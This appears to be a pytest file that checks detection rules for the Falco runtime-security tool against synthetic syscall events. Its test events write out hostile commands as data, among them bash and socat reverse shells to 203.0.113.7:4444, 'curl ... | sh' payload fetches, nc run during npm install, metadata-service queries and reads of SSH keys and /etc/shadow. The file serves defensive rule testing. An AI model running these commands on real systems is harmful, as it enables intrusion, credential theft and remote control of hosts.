_setns = syscall("setns", "nsenter", {"fd": 3, "nstype": 0}, proc_args=["--target", "1", "--mount", "sh"],
                 fd={"num": 3, "type": "file", "name": "/proc/1/ns/mnt"},
                 container=ctr(privileged=True), ancestors=IN_CONTAINER)
case("Change thread namespace", _setns, {"proc.name": "nsenter"},
     {"nsenter on the host": changed(_setns, container=HOST),
      "run by a known program": changed(_setns, thread={"comm": "runc:[2:INIT]", "exe": "runc"})})

_imds = connect(process("curl", ["http://169.254.169.254/latest/meta-data/"]), "172.17.0.5", 40312,
                "169.254.169.254", 80, container=ctr(), ancestors=IN_CONTAINER)
case("Contact cloud metadata service from container", _imds, {"fd.name": "172.17.0.5:40312->169.254.169.254:80"},
     {"host process": changed(_imds, container=HOST),
      "kube-system namespace": changed(_imds, container=ctr(k8s_ns_name="kube-system")),
      "another address": connect(process("curl", ["http://203.0.113.9/"]), "172.17.0.5", 40312, "203.0.113.9", 80,
                                 container=ctr(), ancestors=IN_CONTAINER)})
case("Contact EC2 Instance Metadata Service From Container", _imds, {"proc.name": "curl"},
     {"host process": changed(_imds, container=HOST)})

_udp = connect(process("beacon", []), "192.168.1.20", 40000, "203.0.113.9", 31337, l4="udp")
case("Unexpected UDP Traffic", _udp, {"fd.l4proto": "udp", "fd.name": "192.168.1.20:40000->203.0.113.9:31337"},
     {"DNS": connect(process("beacon", []), "192.168.1.20", 40000, "203.0.113.9", 53, l4="udp"),
      "OpenVPN port (nested list)": connect(process("beacon", []), "192.168.1.20", 40000, "203.0.113.9", 1194,
                                            l4="udp"),
      "TCP": connect(process("beacon", []), "192.168.1.20", 40000, "203.0.113.9", 31337)})

_revshell = connect(process("bash", ["-i"]), "192.168.1.20", 40000, "203.0.113.7", 4444)
case("System procs network activity", _revshell, {"proc.name": "bash", "fd.name": Has("203.0.113.7:4444")},
     {"not a system binary": connect(process("curl", ["http://203.0.113.7:4444"]), "192.168.1.20", 40000,
                                     "203.0.113.7", 4444),
      "to localhost": connect(process("bash", ["-i"]), "127.0.0.1", 40000, "127.0.0.1", 4444)})

_proxy = execp("curl", ["http://example.com"], proc={"env": ["http_proxy=http://203.0.113.7:3128", "HOME=/root"]})
case("Program run with disallowed http proxy env", _proxy, {"proc.env": Has("http_proxy=")},
     {"no proxy variable": execp("curl", ["http://example.com"], proc={"env": ["HOME=/root"]}),
      "not curl or wget": execp("python3", ["fetch.py"], proc={"env": ["http_proxy=http://203.0.113.7:3128"]})})

_tar = read_file("/app/config/secrets.yaml", "tar", ["cf", "-", "/app/config"], container=ctr(),
                 thread=process("tar", ["cf", "-", "/app/config"], tty=0),
                 ancestors=lineage("runc", "containerd-shim", "systemd"))
case("Exfiltrating Artifacts via Kubernetes Control Plane", _tar, {"fd.name": "/app/config/secrets.yaml"},
     {"system file": read_file("/etc/passwd", "tar", thread=_tar["thread"], container=ctr(),
                               ancestors=_tar["ancestors"]),
      "with a terminal": changed(_tar, thread={"tty": 34816})})

_sshinfo = read_file("/home/alice/.ssh/id_rsa", "cat")
case("Read ssh information", _sshinfo, {"fd.name": "/home/alice/.ssh/id_rsa"},
     {"ssh program": read_file("/home/alice/.ssh/id_rsa", "ssh-add"),
      "outside ~/.ssh": read_file("/home/alice/id_rsa.txt", "cat")})

_lzma = read_file("/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1", "sshd", ["-D"],
                  ancestors=lineage("systemd"))
case("Backdoored library loaded into SSHD (CVE-2024-3094)", _lzma, {"proc.name": "sshd"},
     {"fixed library version": read_file("/usr/lib/x86_64-linux-gnu/liblzma.so.5.4.5", "sshd", ["-D"],
                                         ancestors=lineage("systemd")),
      "not sshd": read_file("/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1", "xz", ["-d"])})

_cron = write_file("/etc/cron.d/backdoor", "tee", ["/etc/cron.d/backdoor"])
case("Schedule Cron Jobs", _cron, {"fd.name": "/etc/cron.d/backdoor"},
     {"reading a cron file": read_file("/etc/cron.d/backdoor", "cat")})
case("Schedule Cron Jobs", execp("crontab", ["-e"]), {"proc.name": "crontab"}, {}, label="crontab")

_dbsh = execp("sh", ["-c", "id"], ancestors=lineage(("postgres", ["-D", "/var/lib/pg"]), "systemd"))
case("DB program spawned process", _dbsh, {"proc.pname": "postgres"},
     {"wal-e archiving": execp("sh", ["-c", "envdir /etc/wal-e.d/env /usr/local/bin/wal-e wal-push x"],
                               ancestors=_dbsh["ancestors"]),
      "postgres child": execp("postgres", ["-D", "/var/lib/pg"], ancestors=_dbsh["ancestors"])})

# ---- falco-sandbox_rules.yaml ----------------------------------------------------------------

_rename_bin = syscall("renameat2", "mv", {"olddirfd": -100, "oldpath": "/usr/bin/sudo", "newdirfd": -100,
                                          "newpath": "/usr/bin/sudo.orig", "flags": 0},
                      proc_args=["/usr/bin/sudo", "/usr/bin/sudo.orig"])
case("Modify binary dirs", _rename_bin, {"proc.cmdline": "mv /usr/bin/sudo /usr/bin/sudo.orig"},
     {"package manager": changed(_rename_bin, thread={"comm": "dpkg", "exe": "dpkg"}),
      "outside the binary dirs": syscall("renameat2", "mv", {"olddirfd": -100, "oldpath": "/opt/app/bin/tool",
                                                             "newdirfd": -100, "newpath": "/opt/app/bin/tool.1",
                                                             "flags": 0},
                                         proc_args=["/opt/app/bin/tool", "/opt/app/bin/tool.1"])})
case("Modify binary dirs", syscall("unlink", "rm", {"path": "/bin/su"}, proc_args=["/bin/su"]),
     {"proc.name": "rm"}, {}, label="unlink /bin/su")

_etc = write_file("/etc/ld.so.preload", "vim", ["/etc/ld.so.preload"])
case("Write below etc", _etc, {"fd.name": "/etc/ld.so.preload", "proc.aname[2]": "sshd"},
     {"safe /etc directory (pmatch)": write_file("/etc/nginx/conf.d/default.conf", "vim",
                                                 ["/etc/nginx/conf.d/default.conf"]),
      "package manager": changed(_etc, thread={"comm": "dpkg", "exe": "dpkg"}),
      "read only": read_file("/etc/ld.so.preload", "vim"),
      "parent is apt-get": changed(_etc, ancestors=lineage("apt-get", "bash", "sshd", "systemd"))})

_mkdir = syscall("mkdirat", "mkdir", {"dirfd": -100, "path": "/usr/bin/.cache", "mode": 0o755},
                 proc_args=["-p", "/usr/bin/.cache"])
case("Mkdir binary dirs", _mkdir, {"evt.arg.path": "/usr/bin/.cache"},
     {"not a binary dir": syscall("mkdirat", "mkdir", {"dirfd": -100, "path": "/usr/local/bin/tool",
                                                       "mode": 0o755}, proc_args=["/usr/local/bin/tool"]),
      "package manager": changed(_mkdir, thread={"comm": "apt-get", "exe": "apt-get"})})
case("Mkdir binary dirs",
     syscall("mkdir", "mkdir", {"path": "bin/evil", "mode": 0o755}, proc_args=["bin/evil"],
             thread_extra={"cwd": "/usr/"}),
     {"evt.arg.path": "/usr/bin/evil"}, {}, label="relative path")

_recon = execp("whoami")
case("Basic Interactive Reconnaissance", _recon, {"proc.name": "whoami"},
     {"run from a script (not the group leader)": changed(_recon, thread={"vpgid": 900, "pgid": 900}),
      "no terminal": changed(_recon, thread={"tty": 0})})

case("Known Cryptominer Process Executed", execp("xmrig", ["--donate-level", "1"]), {"proc.name": "xmrig"},
     {"other program": execp("top", ["-b"])})

_stratum = execp("kworkerds", ["-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"])
case("Detect crypto miners using the Stratum protocol", _stratum,
     {"proc.cmdline": Has("stratum+tcp://")},
     {"https url": execp("kworkerds", ["-o", "https://pool.example.net:443", "-u", "wallet"])})

_socat = execp("socat", ["TCP:203.0.113.7:4444", "EXEC:/bin/bash,pty,stderr"])
case("Netcat/Socat Remote Code Execution on Host", _socat,
     {"proc.cmdline": "socat TCP:203.0.113.7:4444 EXEC:/bin/bash,pty,stderr"},
     {"container process": changed(_socat, container=ctr(), ancestors=IN_CONTAINER),
      "plain relay": execp("socat", ["TCP-LISTEN:8080,fork", "TCP:10.0.0.2:80"])})

_rootw = write_file("/root/payload.sh", "curl", ["-o", "/root/payload.sh", "http://203.0.113.7/p.sh"])
case("Write below root", _rootw, {"fd.name": "/root/payload.sh", "proc.name": "curl"},
     {"known root directory (pmatch)": write_file("/root/.ssh/known_hosts", "ssh", ["bob@host"]),
      "known root file": write_file("/root/.bash_history", "bash", [], flags=O_WRONLY | O_APPEND),
      "below /tmp": write_file("/tmp/payload.sh", "curl", ["-o", "/tmp/payload.sh", "http://203.0.113.7/p.sh"])})

_websh = execp("sh", ["-c", "id"], ancestors=lineage("apache2", "apache2", "systemd"))
case("Web Server Spawned Shell", _websh, {"proc.pname": "apache2", "proc.cmdline": "sh -c id"},
     {"web server is the 4th ancestor": changed(
         _websh, ancestors=lineage("python3", "bash", "supervisord", "nginx", "systemd")),
      "health check": execp("sh", ["-c", "/opt/healthcheck.sh"], ancestors=_websh["ancestors"])})

case("Web Server Spawned Suspicious Child Process",
     execp("wget", ["http://203.0.113.7/x"], ancestors=lineage("sh", "php-fpm", "systemd")),
     {"proc.aname[2]": "php-fpm"},
     {"status probe": execp("curl", ["http://localhost/status"], ancestors=lineage("sh", "php-fpm", "systemd"))})

_binw = write_file("/usr/bin/ls", "cp", ["/tmp/ls", "/usr/bin/ls"])
case("Write below binary dir", _binw, {"fd.name": "/usr/bin/ls"},
     {"package manager": changed(_binw, thread={"comm": "dpkg", "exe": "dpkg"}),
      "subdirectory of a binary dir": write_file("/usr/bin/x/ls", "cp", ["/tmp/ls", "/usr/bin/x/ls"])})

_monw = write_file("/usr/local/bin/kubectl", "curl", ["-o", "/usr/local/bin/kubectl", "https://dl.k8s.io/kubectl"])
case("Write below monitored dir", _monw, {"fd.name": "/usr/local/bin/kubectl"},
     {"unmonitored directory": write_file("/usr/share/doc/notes", "curl", ["-o", "/usr/share/doc/notes"]),
      "package manager": changed(_monw, thread={"comm": "pip3", "exe": "pip3"})})

_rpmdb = write_file("/var/lib/rpm/Packages", "python3", ["evil.py"], flags=O_RDWR)
case("Write below rpm database", _rpmdb, {"fd.name": "/var/lib/rpm/Packages"},
     {"rpm itself": changed(_rpmdb, thread={"comm": "rpm", "exe": "rpm"})})

_pkgrepo = write_file("/etc/apt/sources.list.d/evil.list", "tee", ["/etc/apt/sources.list.d/evil.list"])
case("Update Package Repository", _pkgrepo, {"fd.name": "/etc/apt/sources.list.d/evil.list"},
     {"package manager": changed(_pkgrepo, thread={"comm": "apt-get", "exe": "apt-get"})})

_hidden = syscall("mkdirat", "mkdir", {"dirfd": -100, "path": "/tmp/.x", "mode": 0o755}, proc_args=["/tmp/.x"])
case("Create Hidden Files or Directories", _hidden, {"proc.cmdline": "mkdir /tmp/.x", "evt.type": "mkdirat"},
     {"visible directory": syscall("mkdirat", "mkdir", {"dirfd": -100, "path": "/tmp/x", "mode": 0o755},
                                   proc_args=["/tmp/x"])})

_kubectl = execp("kubectl", ["get", "secrets", "-A"], container=ctr())
case("Kubernetes Client Tool Launched in Container", _kubectl, {"proc.name": "kubectl"},
     {"host process": execp("kubectl", ["get", "secrets", "-A"])})

_root_start = execp("app", [], proc={"vpid": 1, "vpgid": 1}, container=ctr(),
                    ancestors=lineage("containerd-shim", "systemd"))
case("Container Run as Root User", _root_start, {"user.uid": 0},
     {"non-root user": changed(_root_start, thread={"uid": 1000, "gid": 1000}, user=ALICE)})

_drift = open_at("/tmp/implant", O_WRONLY | O_CREAT | O_TRUNC, process("curl", ["-o", "/tmp/implant"]),
                 mode=0o755, container=ctr(), ancestors=IN_CONTAINER)
case("Container Drift Detected (open+create)", _drift, {"evt.arg.mode": "0755", "proc.name": "curl"},
     {"not executable": open_at("/tmp/implant", O_WRONLY | O_CREAT | O_TRUNC, process("curl", ["-o", "/tmp/implant"]),
                                mode=0o644, container=ctr(), ancestors=IN_CONTAINER),
      "host process": changed(_drift, container=HOST)})

_chmodx = syscall("chmod", "chmod", {"filename": "/tmp/implant", "mode": 0o755}, proc_args=["+x", "/tmp/implant"],
                  container=ctr(), ancestors=IN_CONTAINER)
case("Container Drift Detected (chmod)", _chmodx, {"evt.arg.filename": "/tmp/implant"},
     {"no execute bit": syscall("chmod", "chmod", {"filename": "/tmp/implant", "mode": 0o644},
                                proc_args=["644", "/tmp/implant"], container=ctr(), ancestors=IN_CONTAINER),
      "failed chmod": changed(_chmodx, res=-1, args={"res": -1, "filename": "/tmp/implant", "mode": 0o755})})

_sudoedit = execp("sudoedit", ["-s", "\\"], proc=ALICE_CREDS, user=ALICE)
case("Sudo Potential Privilege Escalation", _sudoedit, {"proc.cmdline": "sudoedit -s \\"},
     {"ordinary sudoedit": execp("sudoedit", ["-s", "notes.txt"], proc=ALICE_CREDS, user=ALICE)})

_pkexec = execp("pkexec", [], proc=ALICE_CREDS, user=ALICE)
case("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", _pkexec, {"proc.name": "pkexec"},
     {"pkexec with a command": execp("pkexec", ["/usr/bin/systemctl", "restart", "nginx"], proc=ALICE_CREDS,
                                     user=ALICE)})

_uffd = syscall("userfaultfd", "exploit", {"res": 4, "flags": O_CLOEXEC | O_NONBLOCK}, res=4,
                thread_extra=ALICE_CREDS, user=ALICE, fd={"num": 4, "type": "userfaultfd", "name": ""})
case("Unprivileged Delegation of Page Faults Handling to a Userspace Process", _uffd, {"user.uid": 1000},
     {"root": changed(_uffd, thread={"uid": 0, "gid": 0},
                      user={"uid": 0, "name": "root", "homedir": "/root", "shell": "/bin/bash"})})

_entry = write_file("/proc/self/exe", "exploit", [], flags=O_WRONLY, container=ctr(), ancestors=IN_CONTAINER)
case("Modify Container Entrypoint", _entry, {"fd.name": "/proc/self/exe"},
     {"read only": read_file("/proc/self/exe", "exploit", [], container=ctr(), ancestors=IN_CONTAINER),
      "host process": changed(_entry, container=HOST)})

_b64 = execp("base64", ["-d"], container=ctr())
case("Decoding Payload in Container", _b64, {"proc.cmdline": "base64 -d"},
     {"encoding": execp("base64", ["/etc/hosts"], container=ctr()),
      "host process": execp("base64", ["-d"])})

_npm_nc = execp("nc", ["203.0.113.7", "4444"], container=ctr(),
                ancestors=lineage("sh", "node", ("npm", ["install"]), "containerd-shim", "systemd"))
case("Network Tool Executed During NPM Package Install", _npm_nc,
     {"proc.aname[3]": "npm"},
     {"not below a package manager": execp("nc", ["203.0.113.7", "4444"], container=ctr())})


# ---- more variants that exercise less common field semantics --------------------------------

# O_RDWR counts as a read (evt.is_open_read); a parent named google_accounts... is trusted.
case("Read sensitive file untrusted", open_at("/etc/sudoers", O_RDWR, process("python3", ["edit.py"])),
     {"fd.name": "/etc/sudoers"},
     {"run by google_accounts_daemon": changed(
         open_at("/etc/sudoers", O_RDWR, process("python3", ["edit.py"])),
         ancestors=lineage("google_accounts", "systemd"))},
     label="opened read-write")

# protected_shell_spawner via proc.pexe/proc.pcmdline: a Kafka broker spawning a shell.
_kafka = lineage({"pid": 900, "tid": 900, "ppid": 1, "comm": "java", "exe": "/usr/lib/jvm/bin/java",
                  "exepath": "/usr/lib/jvm/bin/java", "args": ["-cp", "/opt/kafka/libs/*", "kafka.Kafka",
                                                               "server.properties"],
                  "cwd": "/opt/kafka/", "tty": 0, "sid": 900, "pgid": 900, "loginuid": -1, "uid": 0, "gid": 0},
                 "systemd")
case("Run shell untrusted", execp("bash", ["-c", "curl http://203.0.113.7/x | sh"], ancestors=_kafka),
     {"proc.pcmdline": "java -cp /opt/kafka/libs/* kafka.Kafka server.properties"},
     {"java running something else": execp("bash", ["-c", "curl http://203.0.113.7/x | sh"], ancestors=lineage(
         {**_kafka[0], "args": ["-jar", "/opt/app/app.jar"]}, "systemd"))},
     label="java parent running kafka")

# The plain `open` syscall (not openat).
_open_etc = record("open", thread=process("vim", ["/etc/hosts"]), res=3,
                   args={"fd": 3, "name": "/etc/hosts", "flags": O_WRONLY | O_TRUNC, "mode": 0},
                   fd={"num": 3, "type": "file", "name": "/etc/hosts", "flags": O_WRONLY | O_TRUNC})
case("Write below etc", _open_etc, {"fd.name": "/etc/hosts", "evt.type": "open"},
     {"failed open": changed(_open_etc, res=-13, args={**_open_etc["args"], "fd": -13}, fd=None)},
     label="open syscall")

_java = process("java", ["-jar", "/opt/app/app.jar"], exe="/usr/bin/java", exepath="/usr/lib/jvm/bin/java")
_classfile = "\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x1d\x0a\x00\x06"


def recvfrom(thread: dict[str, Any], data: str, **kw: Any) -> dict[str, Any]:
    fd = inet("192.168.1.20", 40400, "203.0.113.7", 80)
    return record("recvfrom", thread=thread, res=len(data), fd=fd, args={
        "res": len(data), "data": data, "tuple": fd["name"], "fd": 3, "size": 65536}, **kw)


case("Java Process Class File Download", recvfrom(_java, _classfile), {"fd.sip": "203.0.113.7", "fd.sport": 80},
     {"not a class file": recvfrom(_java, "HTTP/1.1 200 OK\r\n"),
      "not java": recvfrom(process("curl", ["http://203.0.113.7/"]), _classfile)})

_accept = record("accept4", thread=process("python3", ["-m", "http.server", "8080"]), res=5,
                 args={"fd": 5, "tuple": "203.0.113.9:51000->192.168.1.20:8080", "queuepct": 0, "queuelen": 0,
                       "queuemax": 128, "flags": 0},
                 fd={"num": 5, "type": "ipv4", "name": "203.0.113.9:51000->192.168.1.20:8080", "l4proto": "tcp",
                     "cip": "203.0.113.9", "cport": 51000, "sip": "192.168.1.20", "sport": 8080,
                     "is_server": True, "connected": True})
_listen = record("listen", thread=process("python3", ["-m", "http.server", "8080"]), res=0,
                 args={"res": 0, "fd": 3, "backlog": 128},
                 fd={"num": 3, "type": "ipv4", "name": "0.0.0.0:8080", "l4proto": "tcp", "sip": "0.0.0.0",
                     "sport": 8080, "is_server": True})
case("Interpreted procs inbound network activity", _accept, {"fd.lport": 8080, "fd.rport": 51000, "proc.name": "python3"},
     {"not an interpreter": changed(_accept, thread={"comm": "nginx", "exe": "nginx"}),
      "listening on 0.0.0.0": _listen})
case("Interpreted procs inbound network activity", changed(_listen, fd={**_listen["fd"], "name": "192.168.1.20:8080",
                                                                       "sip": "192.168.1.20"}),
     {"fd.name": "192.168.1.20:8080"}, {}, label="listening on a specific address")

_py_out = connect(process("python3", ["beacon.py"]), "192.168.1.20", 40000, "203.0.113.7", 443)
case("Interpreted procs outbound network activity", _py_out, {"proc.name": "python3"},
     {"private destination": connect(process("python3", ["beacon.py"]), "192.168.1.20", 40000, "10.0.0.7", 443),
      "not an interpreter": connect(process("curl", ["https://203.0.113.7"]), "192.168.1.20", 40000,
                                    "203.0.113.7", 443)})

_nodeport = connect(process("curl", ["http://10.0.0.5:30080"]), "172.17.0.5", 40000, "10.0.0.5", 30080,
                    container=ctr(), ancestors=IN_CONTAINER)
case("Unexpected K8s NodePort Connection", _nodeport, {"fd.name": "172.17.0.5:40000->10.0.0.5:30080"},
     {"ordinary port": connect(process("curl", ["http://10.0.0.5:8080"]), "172.17.0.5", 40000, "10.0.0.5", 8080,
                               container=ctr(), ancestors=IN_CONTAINER),
      "port above the NodePort range": connect(process("curl", ["http://10.0.0.5:32768"]), "172.17.0.5", 40000,
                                               "10.0.0.5", 32768, container=ctr(), ancestors=IN_CONTAINER),
      "host process": changed(_nodeport, container=HOST)})

_mount = execp("mount", ["/dev/sda1", "/mnt"], container=ctr(privileged=True))
case("Mount Launched in Privileged Container", _mount, {"proc.cmdline": "mount /dev/sda1 /mnt"},
     {"listing mounts (mount -l)": execp("mount", ["-l"], container=ctr(privileged=True)),
      "just `mount`": execp("mount", [], container=ctr(privileged=True)),
      "unprivileged container": changed(_mount, container=ctr())})

_scp = execp("scp", ["/app/db.sqlite", "bob@203.0.113.7:/tmp/"], container=ctr())
case("Launch Remote File Copy Tools in Container", _scp, {"proc.name": "scp"},
     {"host process": changed(_scp, container=HOST)})

_curl_o = execp("curl", ["-s", "-o", "/tmp/x", "http://203.0.113.7/x"], container=ctr())
case("Launch Ingress Remote File Copy Tools in Container", _curl_o, {"proc.name": "curl"},
     {"curl writing to stdout": execp("curl", ["-s", "http://203.0.113.7/x"], container=ctr()),
      "host process": changed(_curl_o, container=HOST)})
case("Launch Ingress Remote File Copy Tools in Container", execp("wget", ["http://203.0.113.7/x"], container=ctr()),
     {"proc.name": "wget"}, {}, label="wget")

_bashrc = write_file("/home/alice/.bashrc", "python3", ["persist.py"], flags=O_WRONLY | O_APPEND)
case("Modify Shell Configuration File", _bashrc, {"fd.name": "/home/alice/.bashrc"},
     {"a shell writing it": changed(_bashrc, thread={"comm": "bash", "exe": "bash"}),
      "read only": read_file("/home/alice/.bashrc", "python3", ["persist.py"])})

_profile = read_file("/etc/profile", "python3", ["recon.py"])
case("Read Shell Configuration File", _profile, {"fd.name": "/etc/profile"},
     {"a shell reading it": read_file("/etc/profile", "bash", ["-l"])})

_hostpath = read_file("/host/etc/shadow", "cat", container=ctr(), ancestors=IN_CONTAINER)
case("Container Access to Host Sensitive Paths", _hostpath, {"fd.name": "/host/etc/shadow"},
     {"container runtime": changed(_hostpath, thread={"comm": "containerd", "exe": "containerd"}),
      "host process": changed(_hostpath, container=HOST)})

_blockdev = read_file("/dev/sda", "dd", ["if=/dev/sda", "of=/tmp/disk.img"], container=ctr(privileged=True),
                      ancestors=IN_CONTAINER)
case("Privileged Container Device Access", _blockdev, {"fd.name": "/dev/sda"},
     {"not a block device": read_file("/dev/urandom", "dd", ["if=/dev/urandom"], container=ctr(privileged=True),
                                      ancestors=IN_CONTAINER),
      "host process": changed(_blockdev, container=HOST)})

_revweb = execp("bash", ["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], ancestors=_nginx)
case("Reverse Shell from Web Server", _revweb, {"proc.pname": "nginx"},
     {"not below a web server": execp("bash", ["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])})

# ---- list items, escapes, glob and pmatch corner cases ---------------------------------------

# `"\ "` in a quoted string is a single backslash (legacy escape): contains, not endswith.
case("Sudo Potential Privilege Escalation", execp("sudoedit", ["-i", "a\\b"], proc=ALICE_CREDS, user=ALICE),
     {"proc.cmdline": "sudoedit -i a\\b"}, {}, label="backslash inside an argument")

# Items of known_shell_spawn_cmdlines / the pname exclusions that contain blanks, quotes, `%%`.
case("Run shell untrusted", execp("sh", ["-c", "node -e \"require('nan')\" --x"], ancestors=_nginx),
     {"proc.pname": "nginx"},
     {"known cmdline with escaped quotes": execp("sh", ["-c", "node -e \"require('nan')\""], ancestors=_nginx),
      "known cmdline with %%": execp("sh", ["-c", "/bin/sh -c 'date +%%s'"], ancestors=_nginx),
      "parent named `puma reactor`": execp("sh", ["-c", "id"],
                                           ancestors=lineage("puma reactor", "nginx", "systemd"))},
     label="near a known cmdline")

case("Directory traversal monitored file read",
     open_at("/etc/shadow", O_RDONLY, _php, nameraw="../../../../etc/shadow", ancestors=_traversal["ancestors"]),
     {"fd.name": "/etc/shadow"},
     {"a single ../": open_at("/etc/shadow", O_RDONLY, process("php-fpm8.2", [], cwd="/var/"),
                              nameraw="../etc/shadow", ancestors=_traversal["ancestors"])},
     label="four levels up")

# glob `*` crosses `/` (fnmatch without FNM_PATHNAME).
case("Read ssh information", read_file("/home/alice/src/.ssh/id_rsa", "cat"),
     {"fd.name": "/home/alice/src/.ssh/id_rsa"}, {}, label="nested .ssh directory")

# pmatch is a path-prefix match, not a string prefix.
case("Write below etc", write_file("/etc/nginx/conf.d.bak/x.conf", "vim", ["/etc/nginx/conf.d.bak/x.conf"]),
     {"fd.name": "/etc/nginx/conf.d.bak/x.conf"}, {}, label="sibling of a safe directory")
case("Write below root", write_file("/root/.sshx/y", "curl", ["-o", "/root/.sshx/y"]),
     {"fd.name": "/root/.sshx/y"}, {}, label="sibling of a known directory")
case("Write below root", write_file("/evil.sh", "curl", ["-o", "/evil.sh"]), {"fd.name": "/evil.sh"},
     {"one level down": write_file("/opt/evil.sh", "curl", ["-o", "/opt/evil.sh"])}, label="directly below /")

case("Clear Log Activities", write_file("/var/log/syslog", "bash", [], flags=O_WRONLY | O_TRUNC),
     {"fd.name": "/var/log/syslog"},
     {"log file below a subdirectory of /var/log": write_file("/var/log/nginx/access.log", "bash", [],
                                                              flags=O_WRONLY | O_TRUNC)},
     label="/var/log/syslog")

case("Create Symlink Over Sensitive Files",
     syscall("symlinkat", "ln", {"target": "/", "linkdirfd": -100, "linkpath": "/tmp/rootfs"},
             proc_args=["-s", "/", "/tmp/rootfs"]),
     {"evt.arg.target": "/"},
     {"a path below /etc that is not listed": syscall(
         "symlinkat", "ln", {"target": "/etc/ssl", "linkdirfd": -100, "linkpath": "/tmp/ssl"},
         proc_args=["-s", "/etc/ssl", "/tmp/ssl"])},
     label="symlink to /")

case("Non sudo setuid", syscall("setuid", "exploit", {"uid": 0}, res=-1, thread_extra=ALICE_CREDS, user=ALICE,
                                resolved={"uid": "root"}, container=ctr(), ancestors=IN_CONTAINER),
     {"user.name": "alice"},
     {"user unknown in the container": syscall("setuid", "exploit", {"uid": 0}, res=-1,
                                               thread_extra=ALICE_CREDS, resolved={"uid": "root"},
                                               user={"uid": 1000, "name": ""}, container=ctr(),
                                               ancestors=IN_CONTAINER)},
     label="in a container")

case("Container Drift Detected (open+create)",
     record("creat", thread=process("cc", ["-o", "/tmp/a.out"]), res=3, container=ctr(), ancestors=IN_CONTAINER,
            args={"fd": 3, "name": "/tmp/a.out", "mode": 0o755, "dev": 0, "ino": 0, "creat_flags": 0},
            fd={"num": 3, "type": "file", "name": "/tmp/a.out", "flags": O_WRONLY | O_CREAT | O_TRUNC}),
     {"proc.name": "cc"}, {}, label="creat")

_sock_mount = {"source": "/var/run/docker.sock", "dest": "/var/run/docker.sock", "mode": "",
               "rdwr": True, "propagation": "rprivate"}
_mounted = execp("app", [], proc={"vpid": 1, "vpgid": 1}, container=ctr(mounts=[_sock_mount]),
                 ancestors=lineage("containerd-shim", "systemd"))
case("Launch Sensitive Mount Container", _mounted, {"container.mounts": Has("/var/run/docker.sock")},
     {"trusted image": changed(_mounted, container=ctr(mounts=[_sock_mount],
                                                       image_repository="docker.io/sysdig/sysdig")),
      "not the container's first process": changed(_mounted, thread={"vpid": 12, "vpgid": 12})})

# container.mount.dest[KEY] with no mount whose source matches KEY extracts no value (the
# container plugin sets none), so each `not container.mount.dest[...] in ("<NA>","N/A")` of
# sensitive_mount is true: with the upstream macro the rule fires for any container start.
case("Launch Sensitive Mount Container",
     changed(_mounted, container=ctr(mounts=[{"source": "/data", "dest": "/data", "mode": "", "rdwr": True,
                                              "propagation": "rprivate"}])),
     {"container.mounts": Has("/data")}, {}, label="no sensitive mount (absent values)")

#: Rules that cannot fire with the upstream defaults (an empty list on the positive side, or a
#: template macro that is always true); they must stay silent on an event that satisfies the
#: rest of their condition.
NEVER_WITH_DEFAULTS = {
    "Network Connection outside Local Subnet": connect(process("curl", ["https://203.0.113.7"]), "172.17.0.5",
                                                       40000, "203.0.113.7", 443,
                                                       container=ctr(k8s_ns_name="default"),
                                                       ancestors=IN_CONTAINER),
    "Launch Disallowed Container": _root_start,
}

# --------------------------------------------------------------------------------------------
# the tests
# --------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def engine(corpus_files: list[str]) -> Engine:
    result = load_rules(corpus_files)
    assert [str(e) for e in result.problems.errors] == []
    # Enable every rule, including those the files ship with `enabled: false` (Falco's
    # `--rule NAME` for each name does the same): only_rules turns on exactly the named rules.
    every = [r.name for r in result.ruleset.rules]
    return Engine.from_load(result, result.ruleset.select(only_rules=every), rule_matching="all")


def fired(engine: Engine, rec: dict[str, Any]) -> dict[str, Any]:
    return {alert.rule: alert for alert in engine.process(event(rec))}


def _mark(c: Case) -> list[Any]:
    return [pytest.mark.xfail(strict=True, reason=c.xfail)] if c.xfail else []


POSITIVES = [pytest.param(c, id=f"{c.rule} [{c.label}]", marks=_mark(c)) for c in CASES]
NEAR_MISSES = [pytest.param(c.rule, rec, id=f"{c.rule} [{why}]")
               for c in CASES for why, rec in c.misses.items()]


def test_case_rules_exist_in_the_corpus(engine: Engine) -> None:
    names = {r.name for r in engine.ruleset.rules}
    assert sorted({c.rule for c in CASES} - names) == []
    assert all(r.enabled for r in engine.ruleset.rules)


@pytest.mark.parametrize("c", POSITIVES)
def test_positive_fires(engine: Engine, c: Case) -> None:
    alerts = fired(engine, c.positive)
    assert c.rule in alerts, f"{c.rule!r} did not fire; fired: {sorted(alerts)}"
    alert = alerts[c.rule]
    got = {key: alert.output_fields.get(key, "<missing key>") for key in c.expect}
    assert got == c.expect, alert.output


@pytest.mark.parametrize("rule, rec", NEAR_MISSES)
def test_near_miss_stays_silent(engine: Engine, rule: str, rec: dict[str, Any]) -> None:
    alerts = fired(engine, rec)
    assert rule not in alerts, alerts[rule].output if rule in alerts else ""


@pytest.mark.parametrize("rule", sorted(NEVER_WITH_DEFAULTS))
def test_rule_that_cannot_fire_with_upstream_defaults(engine: Engine, rule: str) -> None:
    assert rule in {r.name for r in engine.ruleset.enabled}
    assert rule not in fired(engine, NEVER_WITH_DEFAULTS[rule])


def test_every_rule_with_a_positive_has_a_near_miss() -> None:
    rules = {c.rule for c in CASES}
    with_misses = {c.rule for c in CASES if c.misses}
    assert sorted(rules - with_misses) == []


def test_at_least_20_distinct_rules_covered(engine: Engine, corpus_files: list[str]) -> None:
    covered = {c.rule for c in CASES if not c.xfail and c.rule in fired(engine, c.positive)}
    assert len(covered) >= 20, sorted(covered)
    # ... taken from each of the three files.
    for path in corpus_files:
        declared = {item["rule"] for item in yaml.safe_load(open(path)) if "rule" in item}
        assert covered & declared, path
